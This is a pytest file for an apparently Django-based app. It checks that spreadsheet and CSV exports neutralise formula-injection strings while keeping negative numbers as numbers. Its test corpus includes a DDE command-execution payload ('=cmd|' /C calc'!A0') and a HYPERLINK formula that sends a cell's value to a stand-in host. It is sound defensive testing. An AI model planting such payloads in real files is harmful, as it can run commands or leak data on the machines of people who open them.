"""Texts that look like formulas, from the load to every file that a spreadsheet opens: no cell of them is calculated,
whatever the spreadsheet takes for the separator, and what is negative is still a number."""

import csv
import html
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Iterable, Iterator
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.db import transaction
from django.test import Client

from carteira.book.book import Book
from carteira.book.export import export
from carteira.book.home import Home
from carteira.jobs.worker import work_once
from tests.access.world import at_home
from tests.accounts.cast import administrator
from tests.attacks.hostile import load_all

pytestmark = pytest.mark.django_db

CORPUS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+2", "\r=1+3", "\n=1+4", " =1+5", "\u00a0=1+6", "\u200b=1+7", "＝1+8",
    "＋1+9", "－1+10", "＠SUM(2)", "Ana;=1+11", 'Bia;"=1+12"', "Caio,=1+13", "Davi\t=1+14", "Eva\n=1+15", 'Fa";=1+16',
    '"=1+17"', "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test?"&A1)', "{=1+18}", "-2+3+cmd|x", "\ufeff=1+19",
    "\x01=1+20", "=1;=2;+3", "Gil|=1+21", "\0=1+22",
)  # fmt: skip
NUMBER = re.compile(r"-?\d+([.,]\d+)?(E-?\d+)?")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture(scope="module")
def client(
    tmp_path_factory: pytest.TempPathFactory, django_db_setup: None, django_db_blocker: object
) -> Iterator[Client]:
    """Of an administrator of a book that is full of the corpus."""
    folder = tmp_path_factory.mktemp("formulas")
    (folder / "book").mkdir()
    with django_db_blocker.unblock(), transaction.atomic(), at_home(folder / "book"):  # type: ignore[attr-defined]
        load_all(Book(Home(folder / "book")), folder, CORPUS, "=src;=1", ("customers", "orders"))
        found = Client(headers={"Accept-Language": "en"})
        found.force_login(administrator())
        yield found
        transaction.set_rollback(True)


def is_formula(cell: str) -> bool:
    seen = "".join(one for one in cell if unicodedata.category(one) not in ("Cc", "Cf", "Zl", "Zp", "Zs"))
    return unicodedata.normalize("NFKC", seen)[:1] in ("=", "+", "-", "@") and not NUMBER.fullmatch(cell.strip())


def cells(text: str) -> Iterator[str]:
    """Every cell that a spreadsheet may make of the file, by whatever separator, of whole records and single lines."""
    lines = re.split(r"[\r\n]+", text)
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from row
        for line in lines:
            yield from next(csv.reader([line], delimiter=separator), [])


def exported(client: Client, kind: str) -> bytes:
    """The list of everybody with every column."""
    page = client.post("/customers/export/", {"everything": "1", "query": "", "columns": "all", "format": kind})
    assert work_once()
    return b"".join(client.get(f"{page.headers['Location']}file/").streaming_content)


def formulas(text: str) -> list[str]:
    return [cell for cell in cells(text) if is_formula(cell)]


def test_the_oracle_knows_a_formula() -> None:
    assert "=1" in formulas("a;=1\n")
    assert '=1",2' in formulas('1,"x;=1",2\n')
    assert "\u200b＝1" in formulas("1,\u200b＝1,-5.25")
    assert formulas("1,'=1,-5.25") == []


@pytest.mark.parametrize(("kind", "separator", "coding"), [("csv", ",", "utf-8"), ("csv_excel", ";", "utf-8-sig")])
def test_a_list_as_text_holds_none(client: Client, kind: str, separator: str, coding: str) -> None:
    body = exported(client, kind)
    assert body.startswith(b"\xef\xbb\xbf") == (kind == "csv_excel")
    text = body.decode(coding)
    assert formulas(text) == []
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=separator))
    profits = [row[next(name for name in row if name.startswith("Profit ("))] for row in rows]
    assert any(re.fullmatch(r"-\d+[.,]\d\d", profit) for profit in profits), profits
    assert {"'=1+1", "'@SUM(1)"} <= {row["City"] for row in rows}


def test_a_list_as_workbook_holds_none(client: Client) -> None:
    body = exported(client, "xlsx")
    assert types_of(body) <= {"inlineStr", "n", "b", "d", "s"}
    assert negative_numbers(body)


def sheet_of(body: bytes) -> Iterable[ElementTree.Element]:
    with zipfile.ZipFile(io.BytesIO(body)) as file:
        return ElementTree.fromstring(file.read("xl/worksheets/sheet1.xml")).iter(f"{MAIN}c")


def types_of(body: bytes) -> set[str]:
    """The types of the workbook's cells; "formula" where there is one."""
    return {"formula" if cell.find(f"{MAIN}f") is not None else cell.get("t", "n") for cell in sheet_of(body)}


def negative_numbers(body: bytes) -> list[str]:
    values = [cell.findtext(f"{MAIN}v") or "" for cell in sheet_of(body) if cell.get("t", "n") == "n"]
    return [value for value in values if value.startswith("-")]


def test_a_list_of_the_api_holds_none(client: Client) -> None:
    asked = {"fields": ["name", "city", "owner", "team", "profit"], "format": "csv"}
    job = client.post("/api/v1/customers/exports", asked, content_type="application/json").json()["id"]
    assert work_once()
    body = b"".join(client.get(f"/api/v1/jobs/{job}/file").streaming_content)
    assert formulas(body.decode()) == []


def test_rejected_lines_hold_none(client: Client) -> None:
    loads = client.get("/api/v1/loads?limit=100").json()["items"]
    for load in (load["id"] for load in loads if load["rejected"]):
        answer = client.get(f"/loads/{load}/rejections.csv")
        text = b"".join(answer.streaming_content).decode()
        assert len(text.splitlines()) > 1
        assert formulas(text) == []


def test_figures_of_charts_hold_none(client: Client) -> None:
    customers = client.get("/api/v1/customers?limit=100&fields=customer_id").json()["items"]
    paths = ["/portfolio/", "/clean-portfolio/", *(f"/customers/{each['customer_id']}/" for each in customers)]
    found = []
    for path in paths:
        page = client.get(path).content.decode()
        found += re.findall(r"(?s)data-chart-csv>(.*?)</script>", page)
    texts = [json.loads(html.unescape(text)) for text in found]
    assert any("'=1+1" in text for text in texts)
    assert [cell for text in texts for cell in formulas(text)] == []


def test_the_audit_trail_holds_none(client: Client) -> None:
    client.post("/settings/teams/new/", {"name": "=1+1", "parent": ""})
    client.post("/sign-in/", {"username": "=1+1", "password": "x"})
    answer = client.get("/settings/audit/export.csv")
    assert formulas(b"".join(answer.streaming_content).decode()) == []


@pytest.mark.parametrize("table", ["customer_card", "customers", "timeline"])
def test_a_table_as_workbook_holds_none(client: Client, tmp_path: Path, table: str) -> None:
    from django.conf import settings

    path = tmp_path / "table.xlsx"
    export(Home(settings.CARTEIRA_HOME), table, path)
    assert "formula" not in types_of(path.read_bytes())
